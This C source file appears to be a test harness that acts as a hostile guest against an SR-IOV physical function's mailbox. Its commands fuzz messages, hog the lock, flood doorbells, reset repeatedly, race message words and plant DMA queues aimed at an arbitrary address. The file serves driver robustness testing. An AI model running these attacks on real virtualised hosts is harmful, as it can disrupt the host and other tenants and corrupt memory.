// SPDX-License-Identifier: GPL-2.0-only
/*
 * A hostile guest: drives the registers of one VF from user space, as a guest
 * with its own driver could. Runs in the host VM on a VF without driver.
 *
 *	attacker PCI-ADDRESS COMMAND ARGUMENT... [harmless]
 *
 *	random COUNT SEED	random and mutated messages
 *	hold SECONDS		keep the mailbox locked, and ring
 *	doorbell SECONDS	ring as fast as possible
 *	ack SECONDS		acknowledge messages that were never sent
 *	grab SECONDS		hold until the PF gives up, release, repeat
 *	reset SECONDS		function resets and RESET messages
 *	flicker SECONDS		change the words while the PF reads them
 *	ask COUNT		valid requests, one after the other
 *	letgo MICROSECONDS CPU	ring with the lock held, release it after that time
 *	poison ADDRESS		leave queues behind that write to ADDRESS
 *
 * SIGTERM ends each of them early. Prints one JSON object. With "harmless" as
 * the last word it makes the same number of register accesses, but none with an
 * effect: no doorbell, no lock, no reset. The difference is the effect of the
 * attack.
 */

#include <errno.h>
#include <fcntl.h>
#include <linux/types.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#define ARRAY_SIZE(a)	(sizeof(a) / sizeof((a)[0]))
#define BIT(n)		(1U << (n))

/* Registers of a VF */
#define CTRL		0x0000
#define CTRL_RST	BIT(26)
#define VMBMEM		0x0800
#define WORDS		16
#define V2PMAILBOX	0x0c40
#define V2P_REQ		BIT(0)
#define V2P_ACK		BIT(1)
#define V2P_VFU		BIT(2)
#define V2P_PFSTS	BIT(4)
#define V2P_PFACK	BIT(5)
#define PSRTYPE		0x0f0c
#define VTIVAR		0x1700
#define RXQ(q)		(0x2800 + 0x100 * (q))
#define TXQ(q)		(0x3800 + 0x100 * (q))
#define QUEUES		2
#define BAR_SIZE	0x4000

/* Messages */
#define MSG_ACK		BIT(31)
#define MSG_NACK	BIT(30)
#define MSG_ID		0xffff
#define MSG_INFO(n)	((__u32)(n) << 16)
#define MSG_TID(n)	((__u32)(n) << 24)
#define RESET		1
#define SET_MULTICAST	3
#define SET_VLAN	4
#define SET_LPE		5
#define IDS		24	/* existing ids, and some others */
#define PF_CONTROL	0x0100

#define USEC		1000ULL
#define MSEC		1000000ULL
#define SEC		1000000000ULL

struct counts {
	__u64 rung, acks, nacks, other, silent, resets;
	__u64 longest;	/* wait for a reply, ns */
};

static volatile __u32 *bar;
static volatile sig_atomic_t stopped;
static struct counts counts;
static bool harmless;
static __u64 seed = 1;
static __u32 latched;	/* PFSTS and PFACK are cleared by reading */

static void die(const char *what)
{
	fprintf(stderr, "attacker: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void stop(int signum)
{
	(void)signum;
	stopped = 1;
}

static __u64 now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * SEC + ts.tv_nsec;
}

static bool before(__u64 deadline)
{
	return !stopped && now() < deadline;
}

static __u32 rd(__u32 reg)
{
	return bar[reg / sizeof(__u32)];
}

static void wr(__u32 reg, __u32 value)
{
	if (harmless && (reg == CTRL || reg == V2PMAILBOX)) {
		reg = V2PMAILBOX;
		value = 0;
	}
	bar[reg / sizeof(__u32)] = value;
}

/* xorshift64 */
static __u32 rnd(void)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return seed >> 16;
}

/*
 * The emulation makes one register access at a time for the whole machine. A
 * loop of nothing else would starve all other accesses, whatever the PF does.
 */
static void breathe(__u64 ns)
{
	__u64 end = now() + ns;

	while (before(end))
		;
}

static void open_vf(const char *address)
{
	char path[128];
	int fd;

	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/enable", address);
	fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, "1", 1) != 1)
		die(path);
	close(fd);

	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/resource0",
		 address);
	fd = open(path, O_RDWR);
	if (fd < 0)
		die(path);
	bar = mmap(NULL, BAR_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (bar == MAP_FAILED)
		die(path);
	close(fd);
}

/* --- messages ----------------------------------------------------------- */

static void put(const __u32 *words)
{
	unsigned int i;

	for (i = 0; i < WORDS; i++)
		wr(VMBMEM + i * sizeof(__u32), words[i]);
}

static bool seen(__u32 bit)
{
	latched |= rd(V2PMAILBOX);
	return latched & bit;
}

/* Take the lock without checking whether the PF holds it. */
static void ring(const __u32 *words)
{
	wr(V2PMAILBOX, V2P_VFU);
	/* This overwrites the last message of the PF. */
	seen(0);
	latched = 0;
	put(words);
	wr(V2PMAILBOX, V2P_REQ);
	counts.rung++;
}

/* The first word of the PF's next message; false if there is none in time. */
static bool answer(__u64 timeout, __u32 *word)
{
	__u64 start = now();

	while (!seen(V2P_PFSTS)) {
		if (!before(start + timeout))
			return false;
		breathe(10 * USEC);
	}
	latched &= ~V2P_PFSTS;
	*word = rd(VMBMEM);
	wr(V2PMAILBOX, V2P_ACK);
	if (now() - start > counts.longest)
		counts.longest = now() - start;
	return true;
}

static void count(bool answered, __u32 word)
{
	if (!answered)
		counts.silent++;
	else if (word & MSG_ACK)
		counts.acks++;
	else if (word & MSG_NACK)
		counts.nacks++;
	else
		counts.other++;
}

/* --- random ------------------------------------------------------------- */

/* Numbers that a careless comparison gets wrong */
static __u32 nasty(void)
{
	static const __u32 values[] = {
		0, 1, 2, 15, 16, 30, 31, 32, 0x40, 0xff, 0x100, 1518, 4095,
		4096, 9216, 0x2600, 0x2601, 0x7fff, 0x8000, 0xffff, 0x10000,
		0x7fffffff, 0x80000000, 0x94002600, 0xfffffffe, 0xffffffff,
	};

	return rnd() % 4 ? values[rnd() % ARRAY_SIZE(values)] : rnd();
}

static void compose(__u32 *words)
{
	unsigned int i, flips;

	for (i = 0; i < WORDS; i++)
		words[i] = rnd() % 8 ? nasty() : rnd();
	if (!(rnd() % 8))
		return;

	words[0] = rnd() % IDS | MSG_INFO(rnd() % 4 ? nasty() & 0xff : rnd());
	if (rnd() % 2)
		words[0] |= MSG_TID(rnd() % 16);
	/* Without this the PF checks nothing else. */
	if (!(rnd() % 16))
		words[0] = RESET;
	if (rnd() % 2)
		return;
	for (flips = rnd() % 3 + 1; flips; flips--)
		words[rnd() % WORDS] ^= BIT(rnd() % 32);
}

/* Doorbells and resets that no driver makes */
static void misbehave(void)
{
	switch (rnd() % 64) {
	case 0:
		wr(V2PMAILBOX, rnd());
		break;
	case 1:
		wr(V2PMAILBOX, V2P_REQ | V2P_ACK);
		break;
	case 2:
		wr(CTRL, CTRL_RST);
		counts.resets++;
		break;
	}
}

static void attack_random(__u64 messages, __u64 first_seed)
{
	/* Never zero, and values of adjacent words are far apart. */
	seed = (first_seed + 1) * 0x9e3779b97f4a7c15ULL;
	while (messages-- && !stopped) {
		__u32 words[WORDS], word = 0;
		bool answered;

		compose(words);
		ring(words);
		/* For most requests it does not wait for a reply. */
		answered = answer(rnd() % 8 ? 0 : 200 * USEC, &word);
		count(answered, word);
		misbehave();
	}
}

/* --- others ------------------------------------------------------------- */

/* Take the mailbox and send requests without releasing it. */
static void hold(const __u32 *words)
{
	wr(V2PMAILBOX, V2P_VFU);
	put(words);
	wr(V2PMAILBOX, V2P_VFU | V2P_REQ);
	counts.rung++;
}

static void attack_hold(__u64 end)
{
	const __u32 words[WORDS] = { SET_LPE, 1518 };

	while (before(end)) {
		hold(words);
		usleep(1000);
	}
	wr(V2PMAILBOX, 0);
}

static void attack_doorbell(__u64 end)
{
	const __u32 reset[WORDS] = { RESET };
	const __u32 words[WORDS] = { SET_LPE, 1518 };
	__u32 word = 0;

	ring(reset);
	count(answer(10 * MSEC, &word), word);
	put(words);
	while (before(end)) {
		wr(V2PMAILBOX, V2P_REQ);
		counts.rung++;
		breathe(10 * USEC);
	}
}

static void attack_ack(__u64 end)
{
	while (before(end)) {
		wr(V2PMAILBOX, V2P_ACK);
		counts.rung++;
		breathe(10 * USEC);
	}
}

/* The PF tries for 127 ms; its timers add a few. */
static void attack_grab(__u64 end)
{
	const __u32 words[WORDS] = { SET_LPE, 1518 };

	while (before(end)) {
		hold(words);
		usleep(250 * 1000);
		wr(V2PMAILBOX, 0);
		usleep(1000);
		wr(V2PMAILBOX, V2P_REQ);
		counts.rung++;
		usleep(4 * 1000);
	}
}

static void attack_reset(__u64 end)
{
	const __u32 words[WORDS] = { RESET };

	while (before(end)) {
		wr(CTRL, CTRL_RST);
		counts.resets++;
		ring(words);
		breathe(20 * USEC);
	}
}

/* The PF runs on another processor and reads the words while they change. */
static void attack_flicker(__u64 end)
{
	static const __u32 faces[][2] = {
		{ SET_MULTICAST | MSG_INFO(30), 0x0fff0fff },
		{ SET_MULTICAST | MSG_INFO(255), 0xffffffff },
		{ SET_VLAN | MSG_INFO(1), 5 },
		{ SET_VLAN | MSG_INFO(1), 0x80000005 },
		{ SET_LPE, 1518 },
		{ SET_LPE, 0x94002600 },
		{ RESET, 0 },
		{ 0xffffffff, 0xffffffff },
	};
	unsigned int i, j;

	while (before(end)) {
		wr(V2PMAILBOX, V2P_REQ);
		counts.rung++;
		for (i = 0; i < 8; i++) {
			for (j = 0; j < 2; j++)
				wr(VMBMEM + j * sizeof(__u32),
				   faces[rnd() % ARRAY_SIZE(faces)][j]);
			breathe(2 * USEC);
		}
	}
}

static void lock(void)
{
	__u32 bits;

	do {
		wr(V2PMAILBOX, V2P_VFU);
		bits = rd(V2PMAILBOX);
		latched |= bits;
	} while (!(bits & V2P_VFU) && !stopped);
}

/*
 * Send a request as igbvf does, which polls every 500 us, and wait for its
 * reply: a notification is none. Wait for the lock.
 */
static bool ask(const __u32 *words)
{
	__u64 end = now() + SEC;
	__u32 word = 0;

	lock();
	latched = 0;
	put(words);
	wr(V2PMAILBOX, V2P_REQ);
	counts.rung++;
	while (before(end)) {
		usleep(500);
		if (!seen(V2P_PFSTS))
			continue;
		lock();
		latched = 0;
		word = rd(VMBMEM);
		wr(V2PMAILBOX, V2P_ACK);
		if ((word & MSG_ID) != PF_CONTROL)
			break;
	}
	if (stopped)
		return true;
	count(word && (word & MSG_ID) != PF_CONTROL, word);
	return (word & MSG_ID) == (words[0] & MSG_ID);
}

static void attack_ask(__u64 requests)
{
	__u32 words[WORDS] = { RESET };

	wr(V2PMAILBOX, 0);
	rd(V2PMAILBOX);
	ask(words);
	words[0] = SET_LPE;
	while (requests-- && !stopped) {
		words[1] = 1518 + requests % 2;
		if (!ask(words))
			fprintf(stderr, "attacker: no answer to request %llu\n",
				counts.rung);
	}
}

/*
 * A PF that waits for the lock, to read and again to reply, gets it only for
 * the reply, if the time is right and it spins on another processor.
 */
static void attack_letgo(__u64 delay, int cpu)
{
	const __u32 words[WORDS] = { SET_LPE, 1518 };
	__u32 word = 0;
	cpu_set_t cpus;

	CPU_ZERO(&cpus);
	CPU_SET(cpu, &cpus);
	if (sched_setaffinity(0, sizeof(cpus), &cpus))
		die("processor");
	wr(V2PMAILBOX, V2P_VFU);
	put(words);
	rd(V2PMAILBOX);
	wr(V2PMAILBOX, V2P_VFU | V2P_REQ);
	counts.rung++;
	breathe(delay * USEC);
	wr(V2PMAILBOX, 0);
	if (answer(SEC, &word))
		printf("{\"answer\": %u}\n", word);
	else
		printf("{\"answer\": null}\n");
}

static void attack_poison(__u64 address)
{
	const struct {
		__u32 reg, value;
	} rx[] = {
		{ 0x00, address },		/* RDBAL */
		{ 0x04, address >> 32 },	/* RDBAH */
		{ 0x08, 0x1000 },		/* RDLEN */
		{ 0x0c, 0x8a000f7f },		/* SRRCTL: header split */
		{ 0x14, 0xff00ffff },		/* RXCTL: DCA for all */
		{ 0x18, 0xff },			/* RDT */
		{ 0x28, 0x001f1f1f },		/* RXDCTL, not enabled */
	}, tx[] = {
		{ 0x00, address },		/* TDBAL */
		{ 0x04, address >> 32 },	/* TDBAH */
		{ 0x08, 0x1000 },		/* TDLEN */
		{ 0x14, 0xff00ffff },		/* TXCTL */
		{ 0x28, 0x001f1f1f },		/* TXDCTL, not enabled */
		{ 0x38, address | 1 },		/* TDWBAL: write the head */
		{ 0x3c, address >> 32 },	/* TDWBAH */
	};
	unsigned int i, q;

	for (q = 0; q < QUEUES; q++) {
		for (i = 0; i < ARRAY_SIZE(rx); i++)
			wr(RXQ(q) + rx[i].reg, rx[i].value);
		for (i = 0; i < ARRAY_SIZE(tx); i++)
			wr(TXQ(q) + tx[i].reg, tx[i].value);
	}
	wr(PSRTYPE, 0xffffffff);
	wr(VTIVAR, 0x83838383);
	/* Values that may disturb the next tenant's driver */
	for (i = 0; i < WORDS; i++)
		wr(VMBMEM + i * sizeof(__u32), 0xffffffff);
	wr(V2PMAILBOX, V2P_VFU);
	printf("{\"tdwbal\": %u}\n", rd(TXQ(0) + 0x38));
}

/* --- commands ----------------------------------------------------------- */

static const struct {
	const char *name;
	void (*run)(__u64 end);
} timed[] = {
	{ "hold", attack_hold },
	{ "doorbell", attack_doorbell },
	{ "ack", attack_ack },
	{ "grab", attack_grab },
	{ "reset", attack_reset },
	{ "flicker", attack_flicker },
};

static void report(__u64 took)
{
	printf("{\"rung\": %llu, \"acks\": %llu, \"nacks\": %llu, ",
	       counts.rung, counts.acks, counts.nacks);
	printf("\"other\": %llu, \"silent\": %llu, \"resets\": %llu, ",
	       counts.other, counts.silent, counts.resets);
	printf("\"longest_ms\": %.3f, \"seconds\": %.3f}\n",
	       counts.longest / (double)MSEC, took / (double)SEC);
}

int main(int argc, char **argv)
{
	const struct sigaction action = { .sa_handler = stop };
	__u64 start, number;
	const char *command;
	unsigned int i;

	if (argc < 4) {
		fprintf(stderr, "usage: %s PCI-ADDRESS COMMAND ARGUMENT...\n",
			argv[0]);
		return 2;
	}
	sigaction(SIGTERM, &action, NULL);
	open_vf(argv[1]);
	command = argv[2];
	number = strtoull(argv[3], NULL, 0);
	harmless = !strcmp(argv[argc - 1], "harmless");
	start = now();

	if (!strcmp(command, "poison")) {
		attack_poison(number);
		return 0;
	}
	if (!strcmp(command, "letgo") && argc > 4) {
		attack_letgo(number, atoi(argv[4]));
		return 0;
	}
	if (!strcmp(command, "random") && argc > 4) {
		attack_random(number, strtoull(argv[4], NULL, 0));
	} else if (!strcmp(command, "ask")) {
		attack_ask(number);
	} else {
		for (i = 0; i < ARRAY_SIZE(timed); i++)
			if (!strcmp(command, timed[i].name))
				break;
		if (i == ARRAY_SIZE(timed)) {
			fprintf(stderr, "attacker: no command %s\n", command);
			return 2;
		}
		timed[i].run(start + number * SEC);
	}
	/* Release the lock and the queues. */
	wr(V2PMAILBOX, 0);
	report(now() - start);
	return 0;
}
